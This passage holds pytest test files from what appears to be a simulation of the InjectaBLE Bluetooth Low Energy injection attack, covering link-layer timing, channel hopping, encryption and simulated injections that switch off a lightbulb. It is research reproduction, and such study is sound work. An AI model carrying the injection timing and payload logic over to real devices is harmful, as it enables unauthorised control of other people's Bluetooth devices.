class TestOverlap:
    def test_duration(self):
        assert Overlap(10.0, 60.0, 0.0).duration_us == 50.0

    def test_negative_duration_clamped(self):
        assert Overlap(60.0, 10.0, 0.0).duration_us == 0.0


class TestResolve:
    def test_no_overlap_survives(self):
        model = CollisionModel()
        rng = np.random.default_rng(1)
        outcome = model.resolve(make_frame(), [], rng)
        assert outcome.survived
        assert outcome.overlapped_bits == 0

    def test_overlapped_bits_counted(self):
        model = CollisionModel()
        rng = np.random.default_rng(1)
        frame = make_frame()
        overlap = Overlap(0.0, 100.0, 30.0)
        outcome = model.resolve(frame, [overlap], rng)
        assert outcome.overlapped_bits == 100  # 1 bit per µs at LE 1M

    def test_very_strong_wanted_signal_survives(self):
        model = CollisionModel(phase_sigma_db=0.0)
        rng = np.random.default_rng(2)
        frame = make_frame()
        outcome = model.resolve(frame, [Overlap(0.0, 50.0, 50.0)], rng)
        assert outcome.survived

    def test_very_weak_wanted_signal_dies_statistically(self):
        model = CollisionModel()
        rng = np.random.default_rng(3)
        frame = make_frame()
        dead = sum(
            not model.resolve(frame, [Overlap(0.0, 150.0, -40.0)], rng).survived
            for _ in range(50)
        )
        assert dead >= 45

    def test_equal_power_is_a_coin_flip_ish(self):
        # At SIR 0 over ~150 µs the capture model should give an
        # intermediate success rate — this is what makes the paper's
        # equal-distance experiments converge in a handful of attempts.
        model = CollisionModel()
        rng = np.random.default_rng(4)
        frame = make_frame()
        survived = sum(
            model.resolve(frame, [Overlap(0.0, 150.0, 0.0)], rng).survived
            for _ in range(300)
        )
        assert 0.10 < survived / 300 < 0.65

    def test_all_overlaps_must_survive(self):
        model = CollisionModel(phase_sigma_db=0.0)
        rng = np.random.default_rng(5)
        frame = make_frame()
        overlaps = [Overlap(0.0, 30.0, 50.0), Overlap(50.0, 180.0, -50.0)]
        outcome = model.resolve(frame, overlaps, rng)
        assert not outcome.survived

    def test_invalid_steepness_rejected(self):
        with pytest.raises(ConfigurationError):
            CollisionModel(steepness_db=0.0)

    def test_invalid_probability_clamps_rejected(self):
        with pytest.raises(ConfigurationError):
            CollisionModel(floor_survival=0.5, ceiling_survival=0.4)
