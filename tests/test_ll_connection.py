"""Unit tests for connection parameters and per-connection state."""

import pytest

from repro.errors import ConnectionStateError
from repro.ll.connection import (
    ConnectionParams,
    ConnectionState,
    Role,
    make_channel_selector,
)
from repro.ll.csa1 import Csa1
from repro.ll.csa2 import Csa2
from repro.ll.pdu.advertising import LLData
from repro.ll.pdu.control import ChannelMapInd, ConnectionUpdateInd
from repro.ll.pdu.data import LLID, DataPdu


def make_params(**overrides) -> ConnectionParams:
    fields = dict(
        access_address=0x50123456, crc_init=0xABCDEF, win_size=2,
        win_offset=1, interval=36, latency=0, timeout=100,
        channel_map=(1 << 37) - 1, hop_increment=9, master_sca_ppm=50.0,
    )
    fields.update(overrides)
    return ConnectionParams(**fields)


class TestConnectionParams:
    def test_from_ll_data(self):
        ll_data = LLData(
            access_address=0x50123456, crc_init=0xABCDEF, win_size=2,
            win_offset=1, interval=36, latency=0, timeout=100,
            channel_map=(1 << 37) - 1, hop_increment=9, sca=5,
        )
        params = ConnectionParams.from_ll_data(ll_data)
        assert params.access_address == 0x50123456
        assert params.master_sca_ppm == 50.0  # SCA field 5

    def test_interval_us(self):
        assert make_params(interval=36).interval_us == 45_000.0

    def test_timeout_us(self):
        assert make_params(timeout=100).timeout_us == 1_000_000.0

    def test_updated_changes_timing_fields_only(self):
        update = ConnectionUpdateInd(win_size=4, win_offset=6, interval=75,
                                     latency=2, timeout=200, instant=99)
        updated = make_params().updated(update)
        assert updated.interval == 75 and updated.latency == 2
        assert updated.access_address == make_params().access_address

    def test_with_channel_map(self):
        updated = make_params().with_channel_map(0x3FF)
        assert updated.channel_map == 0x3FF

    def test_selector_csa1_by_default(self):
        assert isinstance(make_channel_selector(make_params()), Csa1)

    def test_selector_csa2_when_flagged(self):
        assert isinstance(
            make_channel_selector(make_params(use_csa2=True)), Csa2)


class TestArq:
    """The 1-bit ARQ rules of §III-B6 — the consistency core of eq. 6."""

    def make_state(self):
        return ConnectionState(make_params(), Role.SLAVE)

    def test_initial_bits(self):
        state = self.make_state()
        assert state.bits_for_transmit() == (0, 0)

    def test_new_data_advances_next_expected(self):
        state = self.make_state()
        is_new, _ = state.on_received_bits(sn=0, nesn=0)
        assert is_new
        assert state.next_expected_seq_num == 1

    def test_retransmission_detected(self):
        state = self.make_state()
        state.on_received_bits(sn=0, nesn=0)
        is_new, _ = state.on_received_bits(sn=0, nesn=0)
        assert not is_new

    def test_ack_advances_transmit_seq(self):
        state = self.make_state()
        state.note_sent(DataPdu.empty())
        _, acked = state.on_received_bits(sn=0, nesn=1)
        assert acked
        assert state.transmit_seq_num == 1

    def test_nack_keeps_transmit_seq(self):
        state = self.make_state()
        state.note_sent(DataPdu.empty())
        _, acked = state.on_received_bits(sn=0, nesn=0)
        assert not acked
        assert state.transmit_seq_num == 0
        assert state.must_retransmit

    def test_retransmit_cleared_after_ack(self):
        state = self.make_state()
        state.note_sent(DataPdu.make(LLID.DATA_START, b"x"))
        state.on_received_bits(sn=0, nesn=0)  # nack
        assert state.must_retransmit
        state.on_received_bits(sn=1, nesn=1)  # ack
        assert not state.must_retransmit

    def test_injection_consistency_scenario(self):
        """Reproduce the exact bit dance of a successful injection:
        the Master retransmits, the Slave treats it as old data."""
        slave = self.make_state()
        # Attacker frame: SN_a = NESN_s = 0, accepted as new.
        is_new, _ = slave.on_received_bits(sn=0, nesn=1)
        assert is_new and slave.next_expected_seq_num == 1
        # The legitimate Master, unaware, retransmits with SN=0: old data.
        is_new, _ = slave.on_received_bits(sn=0, nesn=1)
        assert not is_new


class TestInstantProcedures:
    def make_state(self):
        return ConnectionState(make_params(), Role.SLAVE)

    def test_update_applies_at_instant(self):
        state = self.make_state()
        update = ConnectionUpdateInd(win_size=2, win_offset=3, interval=75,
                                     latency=0, timeout=100, instant=5)
        state.schedule_update(update)
        for event in range(1, 6):
            state.event_count = event
            due = state.take_due_update()
            if event == 5:
                assert due == update
            else:
                assert due is None

    def test_update_taken_only_once(self):
        state = self.make_state()
        update = ConnectionUpdateInd(win_size=2, win_offset=3, interval=75,
                                     latency=0, timeout=100, instant=3)
        state.schedule_update(update)
        state.event_count = 3
        assert state.take_due_update() is not None
        assert state.take_due_update() is None

    def test_past_instant_rejected(self):
        state = self.make_state()
        state.event_count = 10
        update = ConnectionUpdateInd(win_size=2, win_offset=3, interval=75,
                                     latency=0, timeout=100, instant=9)
        with pytest.raises(ConnectionStateError):
            state.schedule_update(update)

    def test_instant_wraps_mod_2_16(self):
        state = self.make_state()
        state.event_count = 0xFFF0
        assert state.instant_in_future(5)  # wraps around
        assert not state.instant_in_future(0xFF00)

    def test_double_update_rejected(self):
        state = self.make_state()
        update = ConnectionUpdateInd(win_size=2, win_offset=3, interval=75,
                                     latency=0, timeout=100, instant=5)
        state.schedule_update(update)
        with pytest.raises(ConnectionStateError):
            state.schedule_update(update)

    def test_channel_map_applies(self):
        state = self.make_state()
        update = ChannelMapInd(channel_map=0x3FF, instant=4)
        state.schedule_channel_map(update)
        state.event_count = 4
        due = state.take_due_channel_map()
        assert due is not None
        state.apply_channel_map(due)
        assert state.params.channel_map == 0x3FF
        for _ in range(40):
            assert state.channel_for_next_event() <= 9


class TestSupervision:
    def test_not_expired_after_traffic(self):
        state = ConnectionState(make_params(timeout=100), Role.SLAVE)
        state.note_valid_rx(0.0)
        assert not state.supervision_expired(900_000.0)

    def test_expired_after_timeout(self):
        state = ConnectionState(make_params(timeout=100), Role.SLAVE)
        state.note_valid_rx(0.0)
        assert state.supervision_expired(1_100_000.0)

    def test_pre_established_uses_six_intervals(self):
        state = ConnectionState(make_params(interval=36), Role.SLAVE,
                                created_local_us=0.0)
        assert not state.supervision_expired(5 * 45_000.0)
        assert state.supervision_expired(7 * 45_000.0)

    def test_terminate_marks_state(self):
        state = ConnectionState(make_params(), Role.MASTER)
        state.terminate("test")
        assert state.terminated and state.terminate_reason == "test"
