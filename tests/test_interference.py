"""Robustness under interference: the paper's 'realistic environment'."""

import pytest

from repro.core.attacker import Attacker
from repro.devices import Lightbulb, Smartphone
from repro.errors import ConfigurationError
from repro.host.att.pdus import WriteReq
from repro.host.l2cap import CID_ATT, l2cap_encode
from repro.sim.interference import RogueAdvertiser, WifiInterferer
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_noisy_world(seed=70, duty_cycle=0.05):
    sim = Simulator(seed=seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    topo.place("wifi", 3.0, 3.0)
    topo.place("rogue-adv", -3.0, 1.0)
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=36)
    wifi = WifiInterferer(sim, medium, "wifi", duty_cycle=duty_cycle)
    rogue = RogueAdvertiser(sim, medium, "rogue-adv")
    return sim, medium, bulb, phone, wifi, rogue


class TestWifiInterferer:
    def test_bursts_happen(self):
        sim, medium, *_ , wifi, _ = build_noisy_world()
        wifi.start()
        sim.run(until_us=1_000_000)
        assert wifi.bursts_sent > 10

    def test_stop(self):
        sim, medium, *_ , wifi, _ = build_noisy_world()
        wifi.start()
        sim.run(until_us=500_000)
        wifi.stop()
        sent = wifi.bursts_sent
        sim.run(until_us=1_000_000)
        assert wifi.bursts_sent == sent

    def test_invalid_duty_cycle_rejected(self):
        sim, medium, *_ = build_noisy_world()
        with pytest.raises(ConfigurationError):
            WifiInterferer(sim, medium, "wifi", duty_cycle=1.5)


class TestConnectionUnderInterference:
    def test_connection_survives_wifi(self):
        sim, medium, bulb, phone, wifi, _ = build_noisy_world(seed=71)
        wifi.start()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=5_000_000)
        assert phone.is_connected and bulb.ll.is_connected

    def test_connection_survives_rogue_advertiser(self):
        sim, medium, bulb, phone, _, rogue = build_noisy_world(seed=72)
        rogue.start()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=5_000_000)
        assert phone.is_connected and bulb.ll.is_connected


class TestInjectionUnderInterference:
    def test_injection_still_succeeds_in_noise(self):
        """The paper's experiments all ran next to Wi-Fi routers and other
        BLE devices; the attack must go through regardless."""
        sim, medium, bulb, phone, wifi, rogue = build_noisy_world(seed=73)
        attacker = Attacker(sim, medium, "attacker")
        wifi.start()
        rogue.start()
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=2_500_000)
        assert attacker.synchronized
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        payload = l2cap_encode(CID_ATT, WriteReq(
            handle, Lightbulb.power_payload(False, pad_to=5)).to_bytes())
        reports = []
        attacker.inject(payload, on_done=reports.append)
        sim.run(until_us=120_000_000)
        assert reports and reports[0].success
        assert not bulb.is_on
