"""Unit tests for channel selection algorithms #1 and #2."""

import pytest

from repro.errors import LinkLayerError
from repro.ll.csa1 import Csa1, channel_map_to_used
from repro.ll.csa2 import Csa2, channel_identifier

FULL_MAP = (1 << 37) - 1


class TestChannelMap:
    def test_full_map(self):
        assert channel_map_to_used(FULL_MAP) == list(range(37))

    def test_partial_map(self):
        assert channel_map_to_used(0b1011) == [0, 1, 3]

    def test_empty_map_rejected(self):
        with pytest.raises(LinkLayerError):
            channel_map_to_used(0)

    def test_out_of_range_rejected(self):
        with pytest.raises(LinkLayerError):
            channel_map_to_used(1 << 37)


class TestCsa1:
    def test_modular_addition(self):
        csa = Csa1(hop_increment=7, channel_map=FULL_MAP)
        assert csa.next_channel() == 7
        assert csa.next_channel() == 14
        assert csa.next_channel() == 21

    def test_wraps_mod_37(self):
        csa = Csa1(hop_increment=16, channel_map=FULL_MAP, last_unmapped=30)
        assert csa.next_channel() == (30 + 16) % 37

    def test_full_map_cycle_covers_all_channels(self):
        # 37 is prime, so any increment visits all 37 channels.
        for hop in (5, 7, 11, 16):
            csa = Csa1(hop_increment=hop, channel_map=FULL_MAP)
            seen = {csa.next_channel() for _ in range(37)}
            assert seen == set(range(37))

    def test_remapping_avoids_unused_channels(self):
        used_map = 0x1FFFFFF  # channels 0-24 only
        csa = Csa1(hop_increment=7, channel_map=used_map)
        for _ in range(100):
            assert csa.next_channel() <= 24

    def test_remap_formula(self):
        # Unused unmapped channel remaps to used[unmapped % numUsed].
        used_map = 0b111  # channels 0,1,2
        csa = Csa1(hop_increment=7, channel_map=used_map)
        channel = csa.next_channel()  # unmapped 7 -> used[7 % 3] = used[1]
        assert channel == 1

    def test_peek_does_not_advance(self):
        csa = Csa1(hop_increment=9, channel_map=FULL_MAP)
        peeked = csa.peek_channel(1)
        assert csa.next_channel() == peeked

    def test_peek_ahead(self):
        csa = Csa1(hop_increment=9, channel_map=FULL_MAP)
        third = csa.peek_channel(3)
        csa.next_channel()
        csa.next_channel()
        assert csa.next_channel() == third

    def test_clone_is_independent(self):
        csa = Csa1(hop_increment=6, channel_map=FULL_MAP)
        csa.next_channel()
        clone = csa.clone()
        assert clone.next_channel() == csa.next_channel()

    def test_map_update_mid_sequence(self):
        csa = Csa1(hop_increment=7, channel_map=FULL_MAP)
        csa.next_channel()
        csa.set_channel_map(0x3FF)  # channels 0-9
        for _ in range(50):
            assert csa.next_channel() <= 9

    def test_invalid_hop_rejected(self):
        with pytest.raises(LinkLayerError):
            Csa1(hop_increment=4)
        with pytest.raises(LinkLayerError):
            Csa1(hop_increment=17)

    def test_two_instances_stay_in_lockstep(self):
        # Master, Slave and sniffer all run the same algorithm: their
        # sequences must match exactly.
        a = Csa1(hop_increment=12, channel_map=FULL_MAP)
        b = Csa1(hop_increment=12, channel_map=FULL_MAP)
        assert [a.next_channel() for _ in range(200)] == \
            [b.next_channel() for _ in range(200)]


class TestCsa2:
    def test_channel_identifier(self):
        assert channel_identifier(0x8E89BED6) == (0x8E89 ^ 0xBED6)

    def test_channels_in_range(self):
        csa = Csa2(access_address=0x71764129, channel_map=FULL_MAP)
        for event in range(500):
            assert 0 <= csa.channel_for_event(event) < 37

    def test_stateless_in_event_counter(self):
        csa = Csa2(access_address=0x71764129)
        assert csa.channel_for_event(42) == csa.channel_for_event(42)

    def test_different_aa_different_sequence(self):
        a = Csa2(access_address=0x71764129)
        b = Csa2(access_address=0x8E89BED7)
        seq_a = [a.channel_for_event(e) for e in range(50)]
        seq_b = [b.channel_for_event(e) for e in range(50)]
        assert seq_a != seq_b

    def test_partial_map_respected(self):
        csa = Csa2(access_address=0x71764129, channel_map=0x1FFFFFF)
        for event in range(300):
            assert csa.channel_for_event(event) <= 24

    def test_distribution_roughly_uniform(self):
        csa = Csa2(access_address=0x5A5A5A5A, channel_map=FULL_MAP)
        counts = [0] * 37
        n = 3700
        for event in range(n):
            counts[csa.channel_for_event(event % 65536)] += 1
        # Every channel used, no channel hogging more than 3x its share.
        assert min(counts) > 0
        assert max(counts) < 3 * n / 37

    def test_invalid_event_counter_rejected(self):
        csa = Csa2(access_address=0x71764129)
        with pytest.raises(LinkLayerError):
            csa.channel_for_event(1 << 16)
