"""Integration tests of the full Link Layer: two devices over the medium.

These exercise the state machines the way Figures 1 and 2 of the paper
describe them: advertising, CONNECT_REQ, connection events with anchor
points and T_IFS, connection/channel-map updates at their instant,
termination and supervision.
"""

import pytest

from repro.ll.master import MasterLinkLayer
from repro.ll.pdu.address import BdAddress
from repro.ll.slave import SlaveLinkLayer
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology
from repro.utils.units import T_IFS_US

SLAVE_ADDR = BdAddress.from_str("AA:BB:CC:DD:EE:01")
MASTER_ADDR = BdAddress.from_str("AA:BB:CC:DD:EE:02")


def build_pair(seed=1, interval=36, timeout=100, ltk=None, **slave_kwargs):
    sim = Simulator(seed=seed)
    topo = Topology()
    topo.place("slave", 0.0, 0.0)
    topo.place("master", 2.0, 0.0)
    medium = Medium(sim, topo)
    slave = SlaveLinkLayer(sim, medium, "slave", SLAVE_ADDR, ltk=ltk,
                           **slave_kwargs)
    master = MasterLinkLayer(sim, medium, "master", MASTER_ADDR,
                             interval=interval, timeout=timeout)
    return sim, slave, master


def connect(sim, slave, master, until_us=1_000_000):
    slave.start_advertising()
    master.connect(slave.address)
    sim.run(until_us=until_us)


class TestEstablishment:
    def test_connection_comes_up(self):
        sim, slave, master = build_pair()
        connect(sim, slave, master)
        assert master.is_connected and slave.is_connected

    def test_peer_addresses_learned(self):
        sim, slave, master = build_pair()
        connect(sim, slave, master)
        assert slave.peer_address == MASTER_ADDR
        assert master.peer_address == SLAVE_ADDR

    def test_connected_callbacks_fire(self):
        sim, slave, master = build_pair()
        events = []
        slave.on_connected = lambda: events.append("slave")
        master.on_connected = lambda: events.append("master")
        connect(sim, slave, master)
        assert set(events) == {"slave", "master"}

    def test_shared_parameters(self):
        sim, slave, master = build_pair()
        connect(sim, slave, master)
        assert slave.conn.params.access_address == \
            master.conn.params.access_address
        assert slave.conn.params.crc_init == master.conn.params.crc_init

    def test_advertising_stops_when_connected(self):
        sim, slave, master = build_pair()
        connect(sim, slave, master)
        adv_before = len(sim.trace.filter(source="slave", kind="tx",
                         predicate=lambda r: r.detail.get("channel") in
                         (37, 38, 39)))
        sim.run(until_us=3_000_000)
        adv_after = len(sim.trace.filter(source="slave", kind="tx",
                        predicate=lambda r: r.detail.get("channel") in
                        (37, 38, 39)))
        assert adv_after == adv_before


class TestConnectionEvents:
    def test_anchor_cadence_matches_interval(self):
        sim, slave, master = build_pair(interval=36)
        connect(sim, slave, master, until_us=3_000_000)
        anchors = [r.detail["anchor_us"]
                   for r in sim.trace.filter(source="slave", kind="anchor")]
        assert len(anchors) > 20
        deltas = [b - a for a, b in zip(anchors, anchors[1:])]
        for delta in deltas:
            assert delta == pytest.approx(45_000.0, abs=30.0)

    def test_slave_responds_at_t_ifs(self):
        sim, slave, master = build_pair()
        connect(sim, slave, master, until_us=2_000_000)
        txs = sim.trace.filter(source="slave", kind="tx",
                               predicate=lambda r: r.detail.get("channel", 37)
                               < 37)
        anchors = sim.trace.filter(source="slave", kind="anchor")
        assert txs and anchors
        # Pair each slave TX with the most recent anchor's master frame end.
        # The response fires T_IFS after the master frame end; verify a
        # couple of samples within the heuristic's ±5 µs window.
        master_txs = sim.trace.filter(source="master", kind="tx")
        checked = 0
        for mtx in master_txs[5:10]:
            # locate the slave tx right after this master tx
            following = [t for t in txs if t.time_us > mtx.time_us]
            if not following:
                continue
            stx = following[0]
            # master frame: empty PDU -> 10 bytes -> 80 µs air time
            expected = mtx.time_us + 80.0 + T_IFS_US
            assert stx.time_us == pytest.approx(expected, abs=5.0)
            checked += 1
        assert checked >= 3

    def test_no_missed_events_in_clean_conditions(self):
        sim, slave, master = build_pair(interval=36)
        connect(sim, slave, master, until_us=5_000_000)
        assert len(sim.trace.filter(kind="event-missed")) == 0
        assert len(sim.trace.filter(kind="response-missed")) == 0

    def test_hop_sequence_follows_csa1(self):
        sim, slave, master = build_pair()
        connect(sim, slave, master, until_us=2_000_000)
        channels = [r.detail["channel"]
                    for r in sim.trace.filter(source="master",
                                              kind="master-tx")]
        hop = master.conn.params.hop_increment
        for a, b in zip(channels, channels[1:]):
            assert (b - a) % 37 == hop % 37


class TestDataTransfer:
    def test_bidirectional_payloads(self):
        sim, slave, master = build_pair()
        at_slave, at_master = [], []
        slave.on_data = at_slave.append
        master.on_data = at_master.append
        connect(sim, slave, master)
        master.send_data(b"\x01\x00\x04\x00m")
        slave.send_data(b"\x01\x00\x04\x00s")
        sim.run(until_us=2_000_000)
        assert at_slave == [b"\x01\x00\x04\x00m"]
        assert at_master == [b"\x01\x00\x04\x00s"]

    def test_queued_payloads_preserve_order(self):
        sim, slave, master = build_pair()
        received = []
        slave.on_data = received.append
        connect(sim, slave, master)
        for i in range(5):
            master.send_data(bytes([i + 1, 0, 4, 0, i]))
        sim.run(until_us=3_000_000)
        assert [p[-1] for p in received] == [0, 1, 2, 3, 4]

    def test_no_duplicate_delivery(self):
        sim, slave, master = build_pair()
        received = []
        slave.on_data = received.append
        connect(sim, slave, master)
        master.send_data(b"\x01\x00\x04\x00x")
        sim.run(until_us=3_000_000)
        assert len(received) == 1


class TestProcedures:
    def test_connection_update_keeps_connection(self):
        sim, slave, master = build_pair(interval=36)
        connect(sim, slave, master)
        master.request_connection_update(interval=75)
        sim.run(until_us=4_000_000)
        assert master.is_connected and slave.is_connected
        assert slave.conn.params.interval == 75
        assert master.conn.params.interval == 75

    def test_update_changes_anchor_cadence(self):
        sim, slave, master = build_pair(interval=36)
        connect(sim, slave, master)
        master.request_connection_update(interval=100)
        sim.run(until_us=6_000_000)
        anchors = [r.detail["anchor_us"]
                   for r in sim.trace.filter(source="slave", kind="anchor")]
        late_deltas = [b - a for a, b in zip(anchors[-6:], anchors[-5:])]
        for delta in late_deltas:
            assert delta == pytest.approx(125_000.0, abs=40.0)

    def test_channel_map_update(self):
        sim, slave, master = build_pair()
        connect(sim, slave, master)
        master.request_channel_map_update(0x1FFFFFF)  # channels 0-24
        sim.run(until_us=3_000_000)
        assert slave.conn.params.channel_map == 0x1FFFFFF
        late_channels = [r.detail["channel"] for r in
                         sim.trace.filter(source="master", kind="master-tx")]
        assert all(ch <= 24 for ch in late_channels[-20:])
        assert master.is_connected and slave.is_connected

    def test_terminate_from_master(self):
        sim, slave, master = build_pair()
        reasons = []
        slave.on_disconnected = reasons.append
        connect(sim, slave, master)
        master.terminate()
        sim.run(until_us=2_000_000)
        assert not slave.is_connected and not master.is_connected
        assert reasons and "TERMINATE" in reasons[0]

    def test_slave_readvertises_after_disconnect(self):
        sim, slave, master = build_pair(readvertise_on_disconnect=True)
        connect(sim, slave, master)
        master.terminate()
        sim.run(until_us=3_000_000)
        assert slave.state.value == "advertising"


class TestSupervision:
    def test_slave_times_out_when_master_vanishes(self):
        sim, slave, master = build_pair(timeout=100)
        reasons = []
        slave.on_disconnected = reasons.append
        connect(sim, slave, master)
        # Kill the master silently (no terminate).
        master.disconnect("simulated power loss")
        sim.run(until_us=5_000_000)
        assert not slave.is_connected
        assert reasons == ["supervision timeout"]

    def test_master_times_out_when_slave_vanishes(self):
        sim, slave, master = build_pair(timeout=100)
        reasons = []
        master.on_disconnected = reasons.append
        connect(sim, slave, master)
        slave.disconnect("simulated power loss")
        sim.run(until_us=5_000_000)
        assert not master.is_connected
        assert reasons == ["supervision timeout"]


class TestEncryption:
    LTK = bytes(range(16))

    def test_encryption_setup(self):
        sim, slave, master = build_pair(ltk=self.LTK)
        connect(sim, slave, master)
        master.start_encryption(self.LTK)
        sim.run(until_us=2_000_000)
        assert master.encryption is not None
        assert slave.encryption is not None

    def test_encrypted_payload_delivered(self):
        sim, slave, master = build_pair(ltk=self.LTK)
        received = []
        slave.on_data = received.append
        connect(sim, slave, master)
        master.start_encryption(self.LTK)
        sim.run(until_us=2_000_000)
        master.send_data(b"\x06\x00\x04\x00secret")
        sim.run(until_us=3_000_000)
        assert received == [b"\x06\x00\x04\x00secret"]

    def test_ciphertext_differs_from_plaintext_on_air(self):
        sim, slave, master = build_pair(ltk=self.LTK)
        connect(sim, slave, master)
        master.start_encryption(self.LTK)
        sim.run(until_us=2_000_000)
        payload = b"\x06\x00\x04\x00secret"
        master.send_data(payload)
        sim.run(until_us=3_000_000)
        # Inspect what actually went on air via the medium tap trace.
        on_air = [r for r in sim.trace.filter(source="master", kind="tx")
                  if r.detail.get("pdu_len", 0) > 2]
        assert on_air  # something non-empty was transmitted
        # The session keys on both sides must match.
        assert master.encryption.session_key == slave.encryption.session_key

    def test_connection_survives_encrypted_traffic(self):
        sim, slave, master = build_pair(ltk=self.LTK)
        connect(sim, slave, master)
        master.start_encryption(self.LTK)
        sim.run(until_us=5_000_000)
        assert master.is_connected and slave.is_connected
