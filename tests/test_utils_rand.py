"""Unit tests for repro.utils.rand."""

import pytest

from repro.utils.rand import RngStreams


class TestRngStreams:
    def test_same_seed_same_stream(self):
        a = RngStreams(7).get("x").integers(0, 1 << 30, 10)
        b = RngStreams(7).get("x").integers(0, 1 << 30, 10)
        assert list(a) == list(b)

    def test_different_names_differ(self):
        streams = RngStreams(7)
        a = streams.get("x").integers(0, 1 << 30, 10)
        b = streams.get("y").integers(0, 1 << 30, 10)
        assert list(a) != list(b)

    def test_different_seeds_differ(self):
        a = RngStreams(7).get("x").integers(0, 1 << 30, 10)
        b = RngStreams(8).get("x").integers(0, 1 << 30, 10)
        assert list(a) != list(b)

    def test_creation_order_does_not_matter(self):
        s1 = RngStreams(3)
        s1.get("a")
        first = list(s1.get("b").integers(0, 100, 5))
        s2 = RngStreams(3)
        second = list(s2.get("b").integers(0, 100, 5))
        assert first == second

    def test_get_returns_same_object(self):
        streams = RngStreams(1)
        assert streams.get("x") is streams.get("x")

    def test_child_streams_are_deterministic(self):
        a = RngStreams(5).child("dev").get("clock").integers(0, 100, 4)
        b = RngStreams(5).child("dev").get("clock").integers(0, 100, 4)
        assert list(a) == list(b)

    def test_child_differs_from_parent(self):
        parent = RngStreams(5)
        child = parent.child("dev")
        assert child.seed != parent.seed

    def test_negative_seed_rejected(self):
        with pytest.raises(ValueError):
            RngStreams(-1)
