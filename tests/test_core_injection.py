"""Integration tests for the InjectaBLE injector (paper §V)."""

import pytest

from repro.core.attacker import Attacker
from repro.core.injection import InjectionConfig, InjectionOutcome
from repro.devices import Lightbulb, Smartphone
from repro.errors import InjectionError
from repro.host.att.pdus import WriteReq
from repro.host.l2cap import CID_ATT, l2cap_encode
from repro.ll.pdu.data import LLID
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_attack_world(seed=11, interval=75, max_attempts=100):
    sim = Simulator(seed=seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=interval)
    attacker = Attacker(
        sim, medium, "attacker",
        injection_config=InjectionConfig(max_attempts=max_attempts))
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_500_000)
    assert attacker.synchronized
    return sim, bulb, phone, attacker


def bulb_off_payload(bulb):
    handle = bulb.gatt.find_characteristic(0xFF11).value_handle
    att = WriteReq(handle, Lightbulb.power_payload(False, pad_to=5)).to_bytes()
    return l2cap_encode(CID_ATT, att)


class TestInjection:
    def test_injection_succeeds(self):
        sim, bulb, phone, attacker = build_attack_world()
        reports = []
        attacker.inject(bulb_off_payload(bulb), on_done=reports.append)
        sim.run(until_us=60_000_000)
        assert reports and reports[0].outcome is InjectionOutcome.SUCCESS

    def test_device_feature_triggered(self):
        """The injected Write Request must actually turn the bulb off —
        the paper validates its heuristic with visible effects."""
        sim, bulb, phone, attacker = build_attack_world(seed=12)
        reports = []
        attacker.inject(bulb_off_payload(bulb), on_done=reports.append)
        sim.run(until_us=60_000_000)
        assert reports[0].success
        assert not bulb.is_on

    def test_connection_survives_injection(self):
        """Challenge C2: the connection state stays consistent."""
        sim, bulb, phone, attacker = build_attack_world(seed=13)
        reports = []
        attacker.inject(bulb_off_payload(bulb), on_done=reports.append)
        sim.run(until_us=60_000_000)
        assert reports[0].success
        sim.run(until_us=sim.now + 3_000_000)
        assert phone.is_connected and bulb.ll.is_connected

    def test_heuristic_agrees_with_ground_truth(self):
        """When the heuristic reports success, the Slave really accepted
        the frame (and vice versa for the final attempt)."""
        sim, bulb, phone, attacker = build_attack_world(seed=14)
        reports = []
        attacker.inject(bulb_off_payload(bulb), on_done=reports.append)
        sim.run(until_us=60_000_000)
        report = reports[0]
        assert report.success == (not bulb.is_on)

    def test_attempt_records_populated(self):
        sim, bulb, phone, attacker = build_attack_world(seed=15)
        reports = []
        attacker.inject(bulb_off_payload(bulb), on_done=reports.append)
        sim.run(until_us=60_000_000)
        report = reports[0]
        assert len(report.records) == report.attempts
        last = report.records[-1]
        assert last.verdict is not None and last.verdict.success
        assert last.d_a == pytest.approx(176.0)  # 22-byte frame

    def test_injected_frame_timed_at_window_opening(self):
        """The frame must start ~w before the legitimate anchor."""
        sim, bulb, phone, attacker = build_attack_world(seed=16)
        reports = []
        attacker.inject(bulb_off_payload(bulb), on_done=reports.append)
        sim.run(until_us=60_000_000)
        report = reports[0]
        success = report.records[-1]
        # Find the Master transmission of the same event.
        master_txs = [r.time_us for r in
                      sim.trace.filter(source="phone", kind="master-tx")]
        later = [t for t in master_txs if t > success.t_a]
        assert later
        gap = later[0] - success.t_a
        w_est = attacker.connection.estimated_widening_us()
        # The Master transmitted within ~2x the widening after us.
        assert 0 < gap < 3 * w_est + 20

    def test_multiple_sequential_injections(self):
        sim, bulb, phone, attacker = build_attack_world(seed=17)
        reports = []
        attacker.inject(bulb_off_payload(bulb), on_done=reports.append)
        sim.run(until_us=60_000_000)
        assert reports[0].success and not bulb.is_on
        # Second injection: turn it back on, reusing the fresh state.
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        payload = l2cap_encode(
            CID_ATT,
            WriteReq(handle, Lightbulb.power_payload(True, pad_to=5)).to_bytes())
        attacker.inject(payload, on_done=reports.append)
        sim.run(until_us=sim.now + 60_000_000)
        assert len(reports) == 2 and reports[1].success
        assert bulb.is_on

    def test_max_attempts_respected(self):
        # An impossible injection (victims out of radio range of attacker)
        # must stop at the configured budget or report loss.
        sim = Simulator(seed=18)
        topo = Topology()
        topo.place("bulb", 0.0, 0.0)
        topo.place("phone", 2.0, 0.0)
        topo.place("attacker", 1.0, 1.0)
        medium = Medium(sim, topo)
        bulb = Lightbulb(sim, medium, "bulb")
        phone = Smartphone(sim, medium, "phone", interval=75)
        attacker = Attacker(sim, medium, "attacker",
